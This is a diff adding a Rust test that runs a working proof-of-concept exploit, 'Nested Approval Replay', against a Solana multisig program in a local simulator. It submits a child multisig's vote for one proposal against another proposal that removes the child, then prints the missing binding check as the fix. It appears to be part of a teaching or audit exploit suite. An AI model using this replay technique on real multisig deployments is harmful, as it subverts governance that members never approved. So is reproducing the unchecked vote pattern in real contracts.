@@ -0,0 +1,155 @@
+// Exploit: Nested Approval Replay (Child Vote Not Bound To Parent Proposal)
+//
+// Vulnerability: V019 - The approve_as_multisig instruction checks that the child
+// proposal is an ApproveParentProposal but never compares its parent_multisig and
+// parent_proposal_id with the parent proposal being approved.
+//
+// Attack: A child multisig votes to approve a harmless parent proposal. The attacker
+// submits that vote against a different parent proposal - one removing the child.
+//
+// Result: The child's approval is recorded on a proposal its members never agreed to.
+
+mod utils;
+
+use utils::*;
+
+use litesvm::types::TransactionResult;
+use solana_sdk::{pubkey::Pubkey, signature::Signer};
+
+// Child's bit in the parent approval bitmap (creator is index 0)
+const CHILD_MEMBER_INDEX: u64 = 1;
+
+struct NestedApprovalReplay;
+
+struct NestedApprovalReplayState {
+    scenario: MultisigScenario,
+    child_multisig: Pubkey,
+    child_proposal: Pubkey,
+    remove_child_proposal: Pubkey,
+}
+
+impl ExploitScenario for NestedApprovalReplay {
+    type State = NestedApprovalReplayState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V019",
+            title: "Nested Approval Replay",
+            severity: Severity::Critical,
+            lesson: "Bind a child multisig's vote to the exact parent multisig and proposal id",
+        }
+    }
+
+    fn setup(&self) -> NestedApprovalReplayState {
+        println!("[Scenario] Attacker spends a child multisig's vote on another proposal");
+
+        let mut scenario = setup_multisig_scenario(1, 0);
+        let creator = scenario.creator.pubkey();
+        let parent = scenario.multisig_pda;
+
+        create_basic_multisig(&mut scenario.svm, &scenario.creator, scenario.multisig_id, 0);
+        let (child_multisig, _) = create_basic_multisig(&mut scenario.svm, &scenario.member1, 1, 0);
+        println!("[Setup] Parent multisig (creator): {}", parent);
+        println!("[Setup] Child multisig (member1): {}", child_multisig);
+
+        // Parent proposal 0: the child multisig PDA joins the parent
+        let (add_child, _) = derive_proposal_pda(&parent, 0);
+        let mut fields = child_multisig.to_bytes().to_vec();
+        fields.push(MemberRole::Executor as u8);
+        let ix = build_create_proposal_ix(
+            &creator,
+            &parent,
+            &add_child,
+            ProposalTypeDiscriminator::AddMember,
+            &fields,
+        );
+        send_tx_expect_success(&mut scenario.svm, ix, &scenario.creator, &[&scenario.creator]);
+        let ix = build_execute_proposal_ix(&creator, &parent, &add_child);
+        send_tx_expect_success(&mut scenario.svm, ix, &scenario.creator, &[&scenario.creator]);
+        println!("[Setup] Child multisig added to parent at member index 1");
+
+        // Parent proposal 1 is harmless, proposal 2 removes the child
+        let (benign, _) = derive_proposal_pda(&parent, 1);
+        let ix = build_create_proposal_ix(
+            &creator,
+            &parent,
+            &benign,
+            ProposalTypeDiscriminator::ChangeTimelock,
+            &60u64.to_le_bytes(),
+        );
+        send_tx_expect_success(&mut scenario.svm, ix, &scenario.creator, &[&scenario.creator]);
+
+        let (remove_child_proposal, _) = derive_proposal_pda(&parent, 2);
+        let ix = build_create_proposal_ix(
+            &creator,
+            &parent,
+            &remove_child_proposal,
+            ProposalTypeDiscriminator::RemoveMember,
+            child_multisig.as_ref(),
+        );
+        send_tx_expect_success(&mut scenario.svm, ix, &scenario.creator, &[&scenario.creator]);
+        println!("[Setup] Parent proposal 1: ChangeTimelock(60), proposal 2: RemoveMember(child)");
+
+        // Child proposal 0: approve parent proposal 1 only
+        let (child_proposal, _) = derive_proposal_pda(&child_multisig, 0);
+        let mut fields = parent.to_bytes().to_vec();
+        fields.extend_from_slice(&1u64.to_le_bytes());
+        let ix = build_create_proposal_ix(
+            &scenario.member1.pubkey(),
+            &child_multisig,
+            &child_proposal,
+            ProposalTypeDiscriminator::ApproveParentProposal,
+            &fields,
+        );
+        send_tx_expect_success(&mut scenario.svm, ix, &scenario.member1, &[&scenario.member1]);
+        println!("[Setup] Child multisig voted to approve parent proposal 1 (1/1 approvals)");
+
+        NestedApprovalReplayState {
+            scenario,
+            child_multisig,
+            child_proposal,
+            remove_child_proposal,
+        }
+    }
+
+    fn exploit(&self, state: &mut NestedApprovalReplayState) -> TransactionResult {
+        let scenario = &mut state.scenario;
+
+        // EXPLOIT: Submit the child's vote for proposal 1 against proposal 2
+        println!("\n[Attack] Attacker submits the child's vote against parent proposal 2...");
+
+        let ix = build_approve_as_multisig_ix(
+            &scenario.attacker.pubkey(),
+            &state.child_multisig,
+            &state.child_proposal,
+            &scenario.multisig_pda,
+            &state.remove_child_proposal,
+        );
+        send_ix(&mut scenario.svm, ix, &scenario.attacker)
+    }
+
+    fn assert_impact(&self, state: &mut NestedApprovalReplayState) -> u64 {
+        let scenario = &state.scenario;
+        let bitmap = get_proposal_approval_bitmap(&scenario.svm, &state.remove_child_proposal);
+        assert_ne!(bitmap & (1 << CHILD_MEMBER_INDEX), 0);
+
+        println!("[VULNERABLE] Child approval recorded on parent proposal 2!");
+        println!("[EXPLOIT SUCCESS] Proposal 2 approval bitmap: {:#b}", bitmap);
+        println!("[EXPLOIT SUCCESS] The child voted for proposal 1, never for its own removal");
+
+        println!("\n[Analysis] The vulnerable code is missing this check:");
+        println!("           require!(");
+        println!("               parent_multisig == self.multisig_account.key()");
+        println!("                   && parent_proposal_id == self.proposal.proposal_id,");
+        println!("               MultisigError::ParentProposalMismatch");
+        println!("           );");
+
+        // Governance is subverted, no funds move directly
+        0
+    }
+}
+
+#[test]
+fn test_exploit_nested_approval_replay() {
+    run_exploit(&NestedApprovalReplay);
+}